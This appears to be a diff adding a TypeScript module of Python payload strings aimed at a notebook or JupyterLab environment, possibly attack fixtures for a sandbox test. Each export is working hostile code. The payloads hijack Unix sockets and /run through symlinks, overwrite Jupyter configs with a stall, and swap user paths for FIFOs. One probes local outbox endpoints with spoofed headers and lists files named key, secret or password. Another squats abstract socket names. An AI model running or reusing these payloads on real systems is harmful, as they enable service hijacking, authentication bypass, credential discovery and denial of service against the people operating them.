@@ -1,0 +1,78 @@
+import { tmpdir } from "node:os";
+
+/** Renames whatever socket can be reached and puts a link to another in its place. */
+export const swap = (path: string) => `
+import os, stat
+def sockets(folder):
+  for root, folders, files in os.walk(folder):
+    for each in files:
+      path = os.path.join(root, each)
+      try:
+        if stat.S_ISSOCK(os.lstat(path).st_mode): yield path
+      except OSError: pass
+for path in [each for folder in ('/run', '/tmp', os.path.expanduser('~')) for each in sockets(folder)]:
+  try:
+    os.rename(path, path + '.real'); os.symlink('${path}', path); print('swapped', path)
+  except OSError as problem: print('kept', path, problem)
+for folder in ('/run/jupyter', '/run'):
+  try:
+    os.rename(folder, folder + '.real'); os.symlink('${tmpdir()}', folder); print('swapped', folder)
+  except OSError as problem: print('kept', folder, problem)
+`;
+
+/** Runs before JupyterLab answers, if anything of it is read then, and leaves a sign. */
+export const configuration = `
+import os
+for folder in ('.jupyter', '.local/python/etc/jupyter', '.local/etc/jupyter'):
+  folder = os.path.expanduser('~/' + folder); os.makedirs(folder, exist_ok=True)
+  for name in ('jupyter_server_config.py', 'jupyter_lab_config.py', 'jupyter_config.py'):
+    open(os.path.join(folder, name), 'w').write('import time\\ntime.sleep(90)\\n')
+`;
+
+export const pipe = `
+import os
+for path in ('~/.local/python/pyvenv.cfg', '~/.jupyter/lab', '~/.local/python/share/jupyter'):
+  path = os.path.expanduser(path)
+  try:
+    if os.path.isdir(path): os.rename(path, path + '.kept')
+    elif os.path.lexists(path): os.unlink(path)
+    os.makedirs(os.path.dirname(path), exist_ok=True); os.mkfifo(path)
+  except OSError as problem: print(problem)
+`;
+
+/** Each address and header by which this machine may be taken for the operator; and the key, where it may lie. */
+export const outbox = (port: number, dataDir: string) => `
+import os, urllib.request
+hosts = ['127.0.0.1']
+try:
+  for line in open('/proc/net/route'):
+    words = line.split()
+    if words[1] == '00000000': hosts.append('.'.join(str(int(words[2][n:n + 2], 16)) for n in (6, 4, 2, 0)))
+except OSError: pass
+for host in hosts:
+  for name in ('localhost:${port}', '127.0.0.1:${port}', '[::1]:${port}'):
+    for more in ({}, {'X-Forwarded-For': '127.0.0.1'}, {'Cookie': 'outbox=1; key=1'}):
+      for path in ('/outbox', '/outbox?key=', '/embedded-gateway/v1/test/mails'):
+        try:
+          request = urllib.request.Request('http://%s:${port}%s' % (host, path), headers={'Host': name, 'Accept': 'application/json', **more})
+          print(urllib.request.urlopen(request, timeout=3).read().decode()[:20000].replace('\\n', ' '))
+        except Exception as problem: print(host, path, problem)
+for root, folders, files in os.walk('${dataDir}'):
+  for each in files:
+    if 'key' in each or 'secret' in each or 'password' in each: print('readable', os.path.join(root, each))
+`;
+
+/** Takes every abstract name that the notebook can see, as soon as it is free, for half a minute. */
+export const squat = `
+import socket, threading, time
+names = sorted({line.split()[-1] for line in open('/proc/net/unix') if line.rstrip().split()[-1].startswith('@berth')})
+held = []
+def take(name):
+  end = time.time() + 30
+  while time.time() < end:
+    try:
+      taken = socket.socket(socket.AF_UNIX); taken.bind(chr(0) + name[1:]); taken.listen(); held.append(taken); return
+    except OSError: time.sleep(0.002)
+for name in names: threading.Thread(target=take, args=(name,), daemon=True).start()
+print('\\n'.join(names) or 'nothing to take')
+`;
